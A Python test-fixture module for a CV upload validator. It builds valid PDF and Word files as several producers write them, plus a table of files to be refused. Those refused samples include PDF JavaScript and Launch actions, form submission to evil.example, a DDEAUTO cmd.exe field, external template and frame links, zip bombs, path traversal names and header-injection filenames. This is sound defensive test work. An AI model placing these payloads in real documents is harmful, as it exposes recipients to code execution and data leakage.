"""Files that candidates send: good ones as several producers write them, and one of every kind that is refused.

All are made here, from bytes; the structures are those that the producers named write.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

import pypdfium2
from fpdf import FPDF

from candidates import files
from candidates.files import DOCX
from tests.factories.candidates import PDF, docx, pdf, zip_of

NAME = "Inès Lefèvre-Müller"  # what a text must have, accents and all
WORD = docx()


# PDF, by hand ----------------------------------------------------------------------------------------


def stream(data: bytes, entries: bytes = b"", *, packed: bool = True) -> bytes:
    """An object that is a stream, deflated as nearly every producer does."""
    if packed:
        data, entries = zlib.compress(data), entries + b" /Filter /FlateDecode"
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(data), entries, data)


def simple_objects(text: str = NAME, *, more: dict[int, bytes] | None = None, catalog: bytes = b"") -> dict[int, bytes]:
    """One page with one line in Helvetica, objects by their numbers."""
    shown = text.encode("cp1252").replace(b"(", rb"\(").replace(b")", rb"\)")
    return {
        1: b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog,
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R"
        b" /Resources << /Font << /F1 5 0 R >> >> >>",
        4: stream(b"BT /F1 12 Tf 72 770 Td (%s) Tj ET" % shown),
        5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
        **(more or {}),
    }


def table_pdf(objects: dict[int, bytes], *, version: bytes = b"1.4", trailer: bytes = b"") -> bytes:
    """A PDF with a table of cross references, as old and simple producers write it."""
    out, at = bytearray(b"%%PDF-%s\n%%\xe2\xe3\xcf\xd3\n" % version), {}
    for number, content in sorted(objects.items()):
        at[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    start, size = len(out), max(objects) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        out += b"%010d 00000 n \n" % at[number] if number in at else b"0000000000 00000 f \n"
    out += b"trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (size, trailer, start)
    return bytes(out)


def stream_pdf(objects: dict[int, bytes], *, version: bytes = b"1.5") -> bytes:
    """A PDF whose objects lie in an object stream and whose cross references are a stream: pdfTeX, Word, macOS."""
    plain = {number: content for number, content in objects.items() if b"stream\n" in content}
    inner = {number: content for number, content in objects.items() if number not in plain}
    offsets, body = [], b""
    for number, content in sorted(inner.items()):
        offsets.append(b"%d %d" % (number, len(body)))
        body += content + b"\n"
    head = b" ".join(offsets) + b"\n"
    holder, xref = max(objects) + 1, max(objects) + 2
    plain[holder] = stream(head + body, b"/Type /ObjStm /N %d /First %d" % (len(inner), len(head)))
    out, at = bytearray(b"%%PDF-%s\n%%\xbf\xf7\xa2\xfe\n" % version), {}
    for number, content in sorted(plain.items()):
        at[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    start, order = len(out), {number: place for place, number in enumerate(sorted(inner))}
    rows = b"\0\0\0\0\xff"
    for number in range(1, xref + 1):
        if number in order:
            rows += struct.pack(">BHH", 2, holder, order[number])
        else:
            rows += struct.pack(">BHH", 1, at.get(number, start), 0)
    entries = b"/Type /XRef /Size %d /W [1 2 2] /Root 1 0 R" % (xref + 1)
    out += b"%d 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (xref, stream(rows, entries), start)
    return bytes(out)


def subset_pdf() -> bytes:
    """As LibreOffice and Cairo write it: glyphs by number, their letters in a map."""
    letters = sorted(set(NAME))
    codes = {letter: number for number, letter in enumerate(letters, start=1)}
    pairs = "\n".join(f"<{code:04X}> <{ord(letter):04X}>" for letter, code in codes.items())
    cmap = (
        "/CIDInit /ProcSet findresource begin 12 dict begin begincmap\n/CMapName /A def /CMapType 2 def\n"
        "1 begincodespacerange <0000> <FFFF> endcodespacerange\n"
        f"{len(codes)} beginbfchar\n{pairs}\nendbfchar\nendcmap CMapName currentdict /CMap defineresource pop end end"
    )
    glyphs = "".join(f"{codes[letter]:04X}" for letter in NAME)
    more = {
        4: stream(f"BT /F1 12 Tf 72 770 Td <{glyphs}> Tj ET".encode()),
        5: b"<< /Type /Font /Subtype /Type0 /BaseFont /BAAAAA+Carlito /Encoding /Identity-H"
        b" /DescendantFonts [6 0 R] /ToUnicode 7 0 R >>",
        6: b"<< /Type /Font /Subtype /CIDFontType2 /BaseFont /BAAAAA+Carlito /DW 500"
        b" /CIDSystemInfo << /Registry (Adobe) /Ordering (Identity) /Supplement 0 >> /FontDescriptor 8 0 R >>",
        7: stream(cmap.encode()),
        8: b"<< /Type /FontDescriptor /FontName /BAAAAA+Carlito /Flags 4 /FontBBox [0 0 1 1] /ItalicAngle 0"
        b" /Ascent 800 /Descent -200 /CapHeight 700 /StemV 80 >>",
        9: b"<< /Creator <FEFF005700720069007400650072> /Producer (LibreOffice 7.6) >>",
    }
    return table_pdf(simple_objects(more=more, catalog=b"/Lang (fr-FR)"), version=b"1.7", trailer=b"/Info 9 0 R")


def updated_pdf() -> bytes:
    """As viewers write it that add to a file instead of writing it anew: a second table that refers to the first."""
    first = table_pdf(simple_objects("Before"), version=b"1.6")
    second = first + b"4 0 obj\n%s\nendobj\n" % simple_objects()[4]
    previous = first.rindex(b"xref\n0 ")
    start = len(second)
    second += b"xref\n4 1\n%010d 00000 n \n" % len(first)
    return second + b"trailer\n<< /Size 6 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (previous, start)


def form_pdf() -> bytes:
    """A form with links, bookmarks, a first view and metadata, none of which runs anything."""
    metadata = b'<?xpacket begin=""?><x:xmpmeta xmlns:x="adobe:ns:meta/"><!-- <html> --></x:xmpmeta>'
    more = {
        6: stream(metadata, b"/Type /Metadata /Subtype /XML", packed=False),
        7: b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://example.com/Launch) >> >>",
        8: b"<< /Fields [] >>",
    }
    catalog = b"/Metadata 6 0 R /OpenAction [3 0 R /Fit] /AcroForm 8 0 R /PageMode /UseOutlines"
    return table_pdf(simple_objects(more=more, catalog=catalog), version=b"1.7")


def rewritten_pdf() -> bytes:
    """As PDFium writes it: Chromium's and Android's printing."""
    document = pypdfium2.PdfDocument.new()
    with pypdfium2.PdfDocument(pdf(NAME)) as source:
        document.import_pages(source)
        buffer = io.BytesIO()
        document.save(buffer)
    document.close()
    return buffer.getvalue()


# DOCX, by hand ---------------------------------------------------------------------------------------

RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MAIN = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
LINK = f'<Relationship Id="rId9" Type="{RELATIONS}/hyperlink" Target="https://example.com/ines" TargetMode="External"/>'


def word_parts(body: str, *, relations: str = "", application: str = "") -> dict[str, bytes]:
    """The parts of a Word file with a body, as text."""
    word = "application/vnd.openxmlformats-officedocument.wordprocessingml"
    parts = {
        "[Content_Types].xml": f'{HEAD}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/word/document.xml" ContentType="{word}.document.main+xml"/>'
        f'<Override PartName="/word/settings.xml" ContentType="{word}.settings+xml"/></Types>',
        "_rels/.rels": f'{HEAD}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{RELATIONS}/officeDocument" Target="word/document.xml"/></Relationships>',
        "word/document.xml": f"{HEAD}<w:document {MAIN}><w:body>{body}</w:body></w:document>",
        "word/_rels/document.xml.rels": f"{HEAD}<Relationships"
        ' xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{RELATIONS}/settings" Target="settings.xml"/>{relations}</Relationships>',
        "word/settings.xml": f"{HEAD}<w:settings {MAIN}/>",
        "docProps/app.xml": f"{HEAD}<Properties"
        ' xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties">'
        f"<Application>{application}</Application></Properties>",
    }
    return {name: text.encode() for name, text in parts.items()}


def microsoft_docx() -> bytes:
    """As Word writes it: runs split by revision and spelling marks, a link, a theme."""
    first, last = NAME.split(" ")
    body = (
        '<w:p w:rsidR="00A1" w:rsidRDefault="00A1"><w:pPr><w:pStyle w:val="Title"/></w:pPr><w:proofErr'
        f' w:type="spellStart"/><w:r w:rsidRPr="00B2"><w:t xml:space="preserve">{first} </w:t></w:r><w:r><w:t>{last}'
        '</w:t></w:r><w:proofErr w:type="spellEnd"/></w:p><w:sectPr><w:pgSz w:w="11906" w:h="16838"/></w:sectPr>'
    )
    parts = word_parts(body, relations=LINK, application="Microsoft Office Word")
    return zip_of(parts | {"word/theme/theme1.xml": b"<a:theme xmlns:a='x'/>", "docProps/thumbnail.jpeg": b"\xff\xd8"})


def libreoffice_docx() -> bytes:
    """As LibreOffice writes it: the types last, tables for the layout, a text box with its text twice."""
    parts = word_parts(
        f"<w:tbl><w:tr><w:tc><w:p><w:r><w:rPr><w:lang w:val='fr-FR'/></w:rPr><w:t>{NAME}</w:t></w:r></w:p></w:tc>"
        "<w:tc><w:p><w:r><w:tab/><w:t>Nantes</w:t></w:r></w:p></w:tc></w:tr></w:tbl><w:p/>",
        application="LibreOffice/7.6.4.1$Linux_X86_64",
    )
    types = parts.pop("[Content_Types].xml")
    return zip_of(parts | {"word/fontTable.xml": b"<w:fonts xmlns:w='x'/>", "[Content_Types].xml": types})


class Unseekable(io.RawIOBase):
    """Where a zip is streamed to: sizes come after each part."""

    def __init__(self) -> None:
        self.data = bytearray()

    def writable(self) -> bool:
        return True

    def write(self, data) -> int:
        self.data += bytes(data)
        return len(data)


def google_docx() -> bytes:
    """As Google Docs writes it: streamed, without properties, every run with its font."""
    out = Unseekable()
    body = (
        '<w:p><w:pPr><w:rPr><w:rFonts w:ascii="Lato"/></w:rPr></w:pPr><w:r><w:rPr><w:rFonts w:ascii="Lato"/>'
        f'<w:rtl w:val="0"/></w:rPr><w:t xml:space="preserve">{NAME}</w:t></w:r></w:p>'
    )
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in word_parts(body, relations=LINK).items():
            if not name.startswith("docProps"):
                archive.writestr(name, data)
    return bytes(out.data)


def word_with_chart() -> bytes:
    """A Word file with a sheet inside, as charts have one."""
    return word_with(**{"word/embeddings/Microsoft_Excel_Sheet.xlsx": zip_of({"xl/workbook.xml": b"<x/>"})})


def core_pdf() -> bytes:
    document = FPDF()
    document.add_page()
    document.set_font("Helvetica", size=12)
    document.cell(text=NAME, link="https://example.com")
    return bytes(document.output())


def locked_pdf(**passwords: str) -> bytes:
    """A PDF that asks for a password, or may be read and not changed."""
    document = FPDF()
    document.add_page()
    document.set_encryption(owner_password="owner", **passwords)
    return bytes(document.output())


GOOD = {
    "pdf of fpdf2": (core_pdf(), files.PDF),
    "pdf of PDFium": (rewritten_pdf(), files.PDF),
    "pdf with a table": (table_pdf(simple_objects()), files.PDF),
    "pdf of pdfTeX": (stream_pdf(simple_objects()), files.PDF),
    "pdf of Word": (
        stream_pdf(simple_objects(catalog=b"/Lang (fr) /MarkInfo << /Marked true >>"), version=b"1.7"),
        files.PDF,
    ),
    "pdf of LibreOffice": (subset_pdf(), files.PDF),
    "pdf that was added to": (updated_pdf(), files.PDF),
    "pdf with links, a form, metadata": (form_pdf(), files.PDF),
    "docx of python-docx": (docx(NAME), DOCX),
    "docx of Word": (microsoft_docx(), DOCX),
    "docx of LibreOffice": (libreoffice_docx(), DOCX),
    "docx of Google Docs": (google_docx(), DOCX),
}


# Refused ---------------------------------------------------------------------------------------------


def parts_of(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def word_with(**more: bytes) -> bytes:
    return zip_of(parts_of(WORD) | more)


def word_without(name: str) -> bytes:
    parts = parts_of(WORD)
    del parts[name]
    return zip_of(parts)


def word_marked_encrypted() -> bytes:
    """A Word file whose every part says that it is encrypted, in its header and in the directory."""
    data = bytearray(WORD)
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(mark)
        while at >= 0:
            data[at + offset] |= 1
            at = data.find(mark, at + 4)
    return bytes(data)


def word_declaring(size: int) -> bytes:
    """A Word file whose directory says that each part unpacks to `size` bytes."""
    data = bytearray(WORD)
    at = data.find(b"PK\x01\x02")
    while at >= 0:
        data[at + 24 : at + 28] = struct.pack("<I", size)
        at = data.find(b"PK\x01\x02", at + 4)
    return bytes(data)


def word_with_wrong_checksum() -> bytes:
    stored = zip_of(parts_of(WORD), compression=zipfile.ZIP_STORED)
    return stored.replace(b"Ada Lovelace", b"Ada Loveless", 1)


def word_relating(kind: str, *, mode: str = 'TargetMode="External"', of: str = "document") -> bytes:
    """A Word file that refers to something outside."""
    relation = f'<Relationship Id="rId77" Type="{RELATIONS}/{kind}" Target="https://evil.example/x" {mode}/>'
    parts = word_parts("<w:p/>", relations=relation if of == "document" else "")
    if of != "document":
        schema = "http://schemas.openxmlformats.org/package/2006/relationships"
        parts[f"word/_rels/{of}.xml.rels"] = f'<Relationships xmlns="{schema}">{relation}</Relationships>'.encode()
    return zip_of(parts)


def word_saying(body: str) -> bytes:
    return zip_of(word_parts(body))


def ole(name: str) -> bytes:
    return files.OLE_START + bytes(504) + name.encode("utf-16-le")


def nested(depth: int) -> bytes:
    data = zip_of({"bomb": bytes(1024)})
    for _level in range(depth):
        data = zip_of({"inner.zip": data})
    return data


def pdf_doing(action: bytes) -> dict[int, bytes]:
    return simple_objects(more={6: b"<< /Type /Action %s >>" % action}, catalog=b"/OpenAction 6 0 R")


def pdf_of_pages(count: int) -> dict[int, bytes]:
    kids = b" ".join(b"%d 0 R" % number for number in range(10, 10 + count))
    pages = dict.fromkeys(range(10, 10 + count), b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>")
    return simple_objects(more={2: b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count), **pages})


def with_comment(data: bytes, comment: bytes) -> bytes:
    """A PDF with something after its first line."""
    head, _end, rest = data.partition(b"\n")
    return head + b"\n%" + comment + b"\n" + rest


BAD = {
    "nothing": (b"", "empty"),
    "only zeros": (bytes(4096), "empty"),
    "only blanks": (b" \n\t ", "empty"),
    "text": (b"Ada Lovelace, engineer", "kind"),
    "html": (b"<!doctype html><script>alert(1)</script>", "kind"),
    "html before a pdf": (b"<script>alert(1)</script>" + PDF, "kind"),
    "rtf": (rb"{\rtf1 Ada}", "kind"),
    "program": (b"MZ\x90\0" + bytes(512), "kind"),
    "jpeg": (b"\xff\xd8\xff\xe0" + bytes(64), "picture"),
    "png": (b"\x89PNG\r\n\x1a\n" + bytes(64), "picture"),
    "heic": (b"\0\0\0\x18ftypheic" + bytes(64), "picture"),
    "old word": (ole("WordDocument"), "old_word"),
    "word with a password": (ole("EncryptedPackage"), "protected"),
    "pdf cut off": (PDF[: len(PDF) // 2], "damaged"),
    "pdf of streams cut off": (stream_pdf(simple_objects())[:-30], "damaged"),
    "pdf header only": (b"%PDF-1.7\n", "damaged"),
    "pdf pointing past its end": (b"%PDF-1.7\nstartxref\n99999\n%%EOF\n", "damaged"),
    "pdf with a password": (PDF.replace(b"trailer\n<<", b"trailer\n<</Encrypt 9 0 R"), "protected"),
    "pdf that asks for a password": (locked_pdf(user_password="secret"), "protected"),
    "pdf that may not be changed": (locked_pdf(), "protected"),
    "pdf and zip at once": (PDF[:-6] + zip_of({"a": b"b"}) + PDF[-40:], "mixed"),
    "pdf and web page at once": (with_comment(PDF, b"<script src=//evil.example></script>"), "mixed"),
    "pdf and web page, in capitals": (with_comment(PDF, b"<!DOCTYPE HTML>"), "mixed"),
    "pdf with a script": (table_pdf(pdf_doing(b"/S /JavaScript /JS (app.alert(1))")), "program"),
    "pdf with a script, packed": (stream_pdf(pdf_doing(b"/S /JavaScript /JS (app.alert(1))")), "program"),
    "pdf with a script, disguised": (table_pdf(pdf_doing(b"/S /#4aava#53cript /J#53 (app.alert(1))")), "program"),
    "pdf that starts a program": (table_pdf(pdf_doing(b"/S /Launch /F (cmd.exe)")), "program"),
    "pdf that sends itself": (table_pdf(pdf_doing(b"/S /SubmitForm /F (https://evil.example)")), "program"),
    "pdf of too many pages": (table_pdf(pdf_of_pages(files.MAX_PAGES + 1)), "pages"),
    "pdf of too many pages, packed": (stream_pdf(pdf_of_pages(files.MAX_PAGES + 1)), "pages"),
    "zip": (zip_of({"holiday.txt": b"sun"}), "not_word"),
    "empty zip": (zip_of({}), "not_word"),
    "excel": (zip_of({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<x/>"}), "not_word"),
    "open document": (zip_of({"mimetype": b"application/vnd.oasis.opendocument.text"}), "not_word"),
    "word without its types": (word_without("[Content_Types].xml"), "not_word"),
    "word without its main type": (word_with(**{"[Content_Types].xml": b"<Types/>"}), "not_word"),
    "word cut off": (WORD[: len(WORD) // 2], "damaged"),
    "word with a wrong checksum": (word_with_wrong_checksum(), "damaged"),
    "word packed in another way": (zip_of(parts_of(WORD), compression=zipfile.ZIP_LZMA), "damaged"),
    "word and pdf at once": (zip_of({"%PDF-1.7": b"x"} | parts_of(WORD)), "mixed"),
    "word with macros": (word_with(**{"word/vbaProject.bin": b"x"}), "macros"),
    "word with macros elsewhere": (word_with(**{"custom/VBAPROJECT.BIN": b"x"}), "macros"),
    "word with a control": (word_with(**{"word/activeX/activeX1.bin": b"x"}), "macros"),
    "word of the macro kind": (
        word_with(**{"[Content_Types].xml": b"application/vnd.ms-word.document.macroEnabled.main+xml"}),
        "macros",
    ),
    "encrypted word": (word_marked_encrypted(), "protected"),
    "word with a template elsewhere": (word_relating("attachedTemplate", of="settings"), "linked"),
    "word with a picture elsewhere": (word_relating("image"), "linked"),
    "word with an object elsewhere": (word_relating("oleObject"), "linked"),
    "word with a frame, disguised": (word_relating("frame", mode="TargetMode = '&#69;xternal'"), "linked"),
    "word that asks other programs": (
        word_saying("<w:p><w:r><w:instrText> DDEAUTO c:\\\\cmd.exe </w:instrText></w:r></w:p>"),
        "linked",
    ),
    "word declaring a bomb": (word_declaring(200_000_000), "unpacked"),
    "word with a bomb in it": (word_with(**{"word/bomb.xml": bytes(files.MAX_UNPACKED_BYTES)}), "unpacked"),
    "word with a zip in a zip": (word_with(**{"word/embeddings/a.zip": nested(1)}), "unpacked"),
    "word with a bomb in a zip": (
        word_with(**{"word/embeddings/a.xlsx": zip_of({"bomb": bytes(files.MAX_UNPACKED_BYTES)})}),
        "unpacked",
    ),
    "word with endless types": (
        word_with(**{"[Content_Types].xml": bytes(files.MAX_CONTENT_TYPES_BYTES + 1)}),
        "unpacked",
    ),
    "word with too many parts": (
        word_with(**{f"word/{number}.xml": b"" for number in range(files.MAX_PARTS)}),
        "unpacked",
    ),
    "part above the folder": (word_with(**{"word/../../evil.xml": b"x"}), "unsafe"),
    "part with an absolute path": (word_with(**{"/etc/passwd": b"x"}), "unsafe"),
    "part on a drive": (word_with(**{"C:evil.xml": b"x"}), "unsafe"),
    "part with a backslash": (word_with(**{"word\\..\\evil.xml": b"x"}), "unsafe"),
    "part with a control character": (word_with(**{"word/a\x07.xml": b"x"}), "unsafe"),
    "part with a hidden character": (word_with(**{"word/a\u202e.xml": b"x"}), "unsafe"),
    "part with entities": (word_with(**{"word/a.xml": b'<!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>'}), "unsafe"),
    "part in wide characters": (word_with(**{"word/_rels/a.xml.rels": "<x/>".encode("utf-16")}), "unsafe"),
}

# Names that a file may arrive under, and what is shown for them (as PDF).
NAMES = {
    "Ada Lovelace.pdf": "Ada Lovelace.pdf",
    "Zieliński Résumé.PDF": "Zieliński Résumé.pdf",
    "cv": "cv.pdf",
    "cv.pdf.exe": "cv.pdf.exe.pdf",
    "../../etc/passwd": "passwd.pdf",
    r"C:\Users\ada\cv.pdf": "cv.pdf",
    "cv\r\nSet-Cookie: x.pdf": "cv Set-Cookie x.pdf",
    "a\u202efdp.exe": "a fdp.exe.pdf",
    'a"b<c>.pdf': "a b c.pdf",
    "": "CV.pdf",
    "...": "CV.pdf",
    ".pdf": "CV.pdf",
    "\x00\x07": "CV.pdf",
    "x" * 400 + ".pdf": "x" * 116 + ".pdf",
    "履歴書.pdf": "履歴書.pdf",
}
